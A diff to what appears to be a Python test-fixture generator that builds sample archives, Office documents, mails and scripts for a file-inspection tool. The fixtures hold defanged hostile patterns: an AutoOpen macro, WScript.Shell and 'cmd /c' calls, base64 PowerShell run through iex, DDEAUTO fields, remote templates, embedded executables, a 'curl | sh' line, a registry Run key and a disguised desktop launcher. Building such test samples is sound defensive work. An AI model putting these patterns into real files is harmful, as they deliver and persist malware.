@@ -16,7 +16,7 @@ FILES = {"a.txt": b"hello " * 300, "folder/b.bin": bytes(range(256)) * 4, "c.doc
 MODULES = {"ThisDocument": "Attribute VB_Name\r\nSub AutoOpen()\r\nMsgBox 1\r\nEnd Sub\r\n" * 3}
 PAGE = '<html><body><a href="https://example.org/x">https://example.net/</a><script>var a = atob("QUJD" + "REVG");</script></body></html>'
 SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><a href="javascript:x">t</a></svg>'
-SCRIPT = "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"cmd /c echo \" & Chr(65) & Chr(66), 0\r\n" * 3
+SCRIPT = 'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c echo " & Chr(65) & Chr(66), 0\r\n' * 3
 POWERSHELL = "$a = [Convert]::FromBase64String('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo='); iex ($a -join '')\n" * 3
 
 
@@ -39,12 +39,26 @@ def containers() -> dict[FileType, list[bytes]]:
     small = {"a.txt": b"hello " * 30, "b/c.bin": bytes(range(64))}
     zips = [archives.zip_of(small, method) for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)]
     return {
-        FileType.ZIP: [*zips, archives.zip_with_hidden_member({"a": b"x"}, "h", b"y"), archives.overlapping_zip(4, 2000), archives.zip_of(FILES)],
+        FileType.ZIP: [
+            *zips,
+            archives.zip_with_hidden_member({"a": b"x"}, "h", b"y"),
+            archives.overlapping_zip(4, 2000),
+            archives.zip_of(FILES),
+        ],
         FileType.TAR: [archives.tar_of(small, {"l": "../x"}), archives.sparse_tar(1 << 16), archives.tar_of(small, form=1)],
         FileType.CPIO: [archives.cpio_of(small)],
         FileType.AR: [archives.ar_of(small)],
-        FileType.SEVEN_ZIP: [seven_zip(small), seven_zip(small, password="gift"), seven_zip(small, filters=[{"id": lzma.FILTER_LZMA2, "preset": 1}])],
-        FileType.RAR: [archives.rar4_of(small), archives.rar5_of(small), archives.rar5_of(small, locked=True), archives.rar4_of(small, locked=True)],
+        FileType.SEVEN_ZIP: [
+            seven_zip(small),
+            seven_zip(small, password="gift"),
+            seven_zip(small, filters=[{"id": lzma.FILTER_LZMA2, "preset": 1}]),
+        ],
+        FileType.RAR: [
+            archives.rar4_of(small),
+            archives.rar5_of(small),
+            archives.rar5_of(small, locked=True),
+            archives.rar4_of(small, locked=True),
+        ],
         FileType.CAB: [archives.cab_of(small), archives.cab_of(small, packed=False)],
         FileType.CHM: [archives.chm_of({"/a.htm": (0, b"hello"), "/b": (1, b"x")})],
         FileType.PE: [archives.program_of(zips[1]), archives.program_of(archives.cab_of(small)), files.pe(original_name="a.exe")],
@@ -73,20 +87,62 @@ def _short_vhdx(disk: bytes) -> bytes:
 def office() -> dict[FileType, list[bytes]]:
     """Documents by type."""
     links = documents.relationships(("attachedTemplate", "https://example.org/t.dotm", True), ("oleObject", "embeddings/o.bin", False))
-    parts = {"word/_rels/document.xml.rels": links, "word/embeddings/o.bin": documents.compound_file({"\x01Ole10Native": documents.ole_native("a.exe", files.pe())})}
+    parts = {
+        "word/_rels/document.xml.rels": links,
+        "word/embeddings/o.bin": documents.compound_file({"\x01Ole10Native": documents.ole_native("a.exe", files.pe())}),
+    }
     workbook = documents.workbook_stream([("One", 0, 0), ("Macro", 1, 2)], auto_open=True, links=["cmd\x03/c x"])
     inner = documents.compound_file({"\x01Ole10Native": documents.ole_native("a.bat", b"echo")})
     return {
-        FileType.OOXML_WORD: [documents.package("docx", parts), documents.macro_document(MODULES), documents.package("docx", {"word/document.xml": documents.word_fields("DDE", "AUTO c:\\x cmd")})],
-        FileType.OOXML_SHEET: [documents.package("xlsx"), documents.package("xlsx", {"xl/macrosheets/sheet1.xml": b"<a><f>EXEC(1)</f></a>"})],
+        FileType.OOXML_WORD: [
+            documents.package("docx", parts),
+            documents.macro_document(MODULES),
+            documents.package("docx", {"word/document.xml": documents.word_fields("DDE", "AUTO c:\\x cmd")}),
+        ],
+        FileType.OOXML_SHEET: [
+            documents.package("xlsx"),
+            documents.package("xlsx", {"xl/macrosheets/sheet1.xml": b"<a><f>EXEC(1)</f></a>"}),
+        ],
         FileType.OOXML_SLIDES: [documents.package("pptx")],
-        FileType.ODF: [documents.open_document(content='<text:a xlink:href="http://x/"/><script:event-listener/>'), documents.open_document({"Basic/script-lc.xml": b"<a/>"})],
-        FileType.OLE_WORD: [documents.word_binary(b"\x13DDEAUTO c:\\\\x\x14y\x15", template="\\\\host\\t.dot", extra=documents.vba_streams(MODULES, "Macros")), documents.word_binary(flags=0x100)],
-        FileType.OLE_SHEET: [documents.compound_file({"Workbook": workbook}), documents.compound_file({"Workbook": documents.workbook_stream([("a", 0, 0)], encrypted=True)})],
-        FileType.OLE_SLIDES: [documents.compound_file({"PowerPoint Document": b"\x0f\0\xe8\x03" + (40).to_bytes(4, "little") + b"\x10\0\x11\x10" + (20).to_bytes(4, "little") + bytes(60), "Current User": b"x" * 30})],
+        FileType.ODF: [
+            documents.open_document(content='<text:a xlink:href="http://x/"/><script:event-listener/>'),
+            documents.open_document({"Basic/script-lc.xml": b"<a/>"}),
+        ],
+        FileType.OLE_WORD: [
+            documents.word_binary(
+                b"\x13DDEAUTO c:\\\\x\x14y\x15", template="\\\\host\\t.dot", extra=documents.vba_streams(MODULES, "Macros")
+            ),
+            documents.word_binary(flags=0x100),
+        ],
+        FileType.OLE_SHEET: [
+            documents.compound_file({"Workbook": workbook}),
+            documents.compound_file({"Workbook": documents.workbook_stream([("a", 0, 0)], encrypted=True)}),
+        ],
+        FileType.OLE_SLIDES: [
+            documents.compound_file(
+                {
+                    "PowerPoint Document": b"\x0f\0\xe8\x03"
+                    + (40).to_bytes(4, "little")
+                    + b"\x10\0\x11\x10"
+                    + (20).to_bytes(4, "little")
+                    + bytes(60),
+                    "Current User": b"x" * 30,
+                }
+            )
+        ],
         FileType.OLE: [inner, documents.vba_project(MODULES)],
-        FileType.OLE_ENCRYPTED_OFFICE: [documents.compound_file({"EncryptedPackage": bytes(64), "EncryptionInfo": b"\x04\0\x04\0\x40\0\0\0" + b'<encryption><keyEncryptor spinCount="100"/></encryption>'})],
-        FileType.RTF: [documents.rich_text(documents.rtf_object(documents.ole1("Package", documents.packaged("a.exe", b"MZ")))), documents.rich_text("{\\*\\template http://x/}")],
+        FileType.OLE_ENCRYPTED_OFFICE: [
+            documents.compound_file(
+                {
+                    "EncryptedPackage": bytes(64),
+                    "EncryptionInfo": b"\x04\0\x04\0\x40\0\0\0" + b'<encryption><keyEncryptor spinCount="100"/></encryption>',
+                }
+            )
+        ],
+        FileType.RTF: [
+            documents.rich_text(documents.rtf_object(documents.ole1("Package", documents.packaged("a.exe", b"MZ")))),
+            documents.rich_text("{\\*\\template http://x/}"),
+        ],
         FileType.PDF: pdfs(),
         FileType.ONENOTE: [documents.notebook(("a.bat", b"echo"), ("b.png", files.png()))],
         FileType.EML: mails(),
@@ -109,7 +165,11 @@ def pdfs() -> list[bytes]:
 def mails() -> list[bytes]:
     random.seed("mail")  # the boundaries between parts are drawn from here
     headers = {"Reply-To": "x@example.com", "Authentication-Results": "mx; spf=fail dmarc=fail"}
-    return [documents.mail(html=PAGE, attachments=[("a.exe", files.pe())], headers=headers), documents.mail(), documents.mail(attachments=[("b.eml", documents.mail())])]
+    return [
+        documents.mail(html=PAGE, attachments=[("a.exe", files.pe())], headers=headers),
+        documents.mail(),
+        documents.mail(attachments=[("b.eml", documents.mail())]),
+    ]
 
 
 def pictures() -> list[bytes]:
@@ -135,9 +195,23 @@ def manifests() -> list[bytes]:
 
 
 def texts() -> list[bytes]:
-    words = [PAGE, SVG, SCRIPT, POWERSHELL, "[InternetShortcut]\r\nURL=file://host/a\r\nIconFile=\\\\host\\i.ico\r\n", "#!/bin/sh\ncurl -s x | sh\n"]
-    words += ['{"a": [1, 2]}', "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n\"a\"=\"cmd\"\r\n", "@echo off\r\nset a=b\r\n%a:~0,1%\r\n"]
-    words += ["[Desktop Entry]\nType=Application\nExec=sh -c 'x'\nName=Photos\n", "<job><script language='JScript'>new ActiveXObject('x')</script></job>"]
+    words = [
+        PAGE,
+        SVG,
+        SCRIPT,
+        POWERSHELL,
+        "[InternetShortcut]\r\nURL=file://host/a\r\nIconFile=\\\\host\\i.ico\r\n",
+        "#!/bin/sh\ncurl -s x | sh\n",
+    ]
+    words += [
+        '{"a": [1, 2]}',
+        'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Run]\r\n"a"="cmd"\r\n',
+        "@echo off\r\nset a=b\r\n%a:~0,1%\r\n",
+    ]
+    words += [
+        "[Desktop Entry]\nType=Application\nExec=sh -c 'x'\nName=Photos\n",
+        "<job><script language='JScript'>new ActiveXObject('x')</script></job>",
+    ]
     return [text.encode() for text in words]
 
 
